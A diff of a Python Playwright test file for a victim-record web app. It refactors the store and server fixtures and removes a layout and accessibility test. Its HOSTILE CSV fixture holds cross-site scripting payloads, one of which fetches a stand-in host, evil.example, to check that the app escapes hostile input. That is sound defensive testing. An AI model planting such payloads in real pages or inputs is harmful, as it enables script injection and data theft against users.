@@ -5,10 +5,10 @@ from pathlib import Path
 import pytest
 from playwright.sync_api import expect
 
-from firsthand.store import create
+from firsthand.store import open_with_keys
 from firsthand.workflow.victims import adding, linking
-from tests.command import PASSPHRASE
-from tests.rooms import opened
+from tests.room_pages import base
+from tests.rooms import filled, served
 
 HOSTILE = """Name,Date of death,Place,Act,<img src=x onerror=fetch('//evil.example')>
 Anton Relkov,2026-03-01,Karsk,killed,محمد "><script>alert(1)</script>
@@ -30,16 +30,13 @@ def room(home):
     for name, words in (("first", HOSTILE), ("second", OTHER)):
         files[name] = home / f"{name}.csv"
         files[name].write_text(words, encoding="utf-8")
-    with create(home / "case", PASSPHRASE) as store:
+    keys = filled(home / "case", [])
+    with open_with_keys(home / "case", keys) as store:
         for name, path in files.items():
             adding.add(store, adding.Order(str(path), name, "count the dead", "Reviewer One"))
         linking.link(store, "Reviewer One")
-    with opened(home / "case", home) as link:
+    with served(home / "case", keys) as link:
         yield link
-
-
-def base(page):
-    return "/".join(page.url.split("/")[:4])
 
 
 def heading(page):
@@ -90,17 +87,3 @@ def test_a_list_is_chosen_waits_over_a_reload_and_is_put_away(inside):
     expect(inside.get_by_label("Fate")).to_have_value("act")
     inside.get_by_role("button", name="Choose another file").click()
     expect(inside.get_by_label("The list: CSV")).to_be_visible()
-
-
-@pytest.mark.parametrize("width", [320, 1280])
-@pytest.mark.parametrize("place", ["lists", "lists/pairs", "lists/pairs/next", "lists/people", "person", "lists/totals", "lists/add"])  # fmt: skip
-def test_every_page_can_be_used_by_everybody(inside, faults_of, place, width):
-    inside.set_viewport_size({"width": width, "height": 800})
-    if place == "person":
-        inside.goto(f"{base(inside)}/lists/people", wait_until="networkidle")
-        inside.locator("tbody a").first.click()
-        inside.wait_for_url("**/people/p*", wait_until="networkidle")
-    else:
-        inside.goto(f"{base(inside)}/{place}", wait_until="networkidle")
-    assert faults_of(inside) == []
-    assert inside.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
